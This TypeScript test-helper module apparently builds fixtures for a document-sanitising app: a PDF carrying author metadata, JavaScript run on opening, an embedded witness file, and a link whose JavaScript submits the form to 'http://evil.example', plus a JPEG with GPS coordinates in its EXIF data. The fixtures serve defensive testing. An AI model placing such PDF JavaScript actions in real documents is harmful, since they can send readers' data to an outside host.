/** Test helpers of the Node adapters (not part of the app): `@lens/node/testing`. */
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';

/**
 * A PDF as a hostile or careless sender makes one: the author's name in its information and XMP
 * metadata, JavaScript run on opening and behind a link, and an embedded file.
 */
export async function hostilePdf(
  text = 'Witness statement: the attack on Tula Toli',
): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.setAuthor('Aung Ko Ko, +95 9 555 0100');
  doc.setCreator('Phone of the witness');
  const page = doc.addPage([400, 300]);
  page.drawText(text, {
    x: 20,
    y: 250,
    size: 12,
    font: await doc.embedFont(StandardFonts.Helvetica),
  });
  const ctx = doc.context;
  const js = ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("opened")') });
  doc.catalog.set(PDFName.of('OpenAction'), ctx.register(js));
  const link = ctx.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [0, 0, 100, 20],
    A: ctx.obj({ S: 'JavaScript', JS: PDFString.of('this.submitForm("http://evil.example")') }),
  });
  page.node.set(PDFName.of('Annots'), ctx.obj([ctx.register(link)]));
  page.node.set(PDFName.of('AA'), ctx.obj({ O: ctx.register(js) }));
  await doc.attach(new TextEncoder().encode('names of the other witnesses'), 'witnesses.txt', {
    mimeType: 'text/plain',
  });
  const xmp = ctx.stream('<x:xmpmeta><dc:creator>Aung Ko Ko</dc:creator></x:xmpmeta>', {
    Type: 'Metadata',
    Subtype: 'XML',
  });
  doc.catalog.set(PDFName.of('Metadata'), ctx.register(xmp));
  return doc.save({ useObjectStreams: false });
}

const bytes = (...xs: Array<number | string>) =>
  Buffer.from(xs.flatMap((x) => (typeof x === 'string' ? [...Buffer.from(x, 'latin1')] : [x])));
const seg = (marker: number, body: Array<number | string>) => {
  const b = bytes(...body);
  return [0xff, marker, (b.length + 2) >> 8, (b.length + 2) & 0xff, ...b];
};
/** A JPEG carrying a GPS position and the phone model in its EXIF segment, as phones write them. */
export const exifPhoto = (): Buffer =>
  bytes(
    0xff,
    0xd8,
    ...seg(0xe0, ['JFIF', 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]),
    ...seg(0xe1, ['Exif', 0, 0, 'GPSLatitude 4.3612N GPSLongitude 18.5550E Model Galaxy A14']),
    ...seg(0xdb, [0, ...new Array<number>(64).fill(1)]),
    ...seg(0xda, [1, 1, 0, 0, 63, 0]),
    0x12,
    0x34,
    0xff,
    0xd9,
  );
export { ReplayServer, csvObjects, wbRows, type Fault } from './feeds/testing/replay-server';
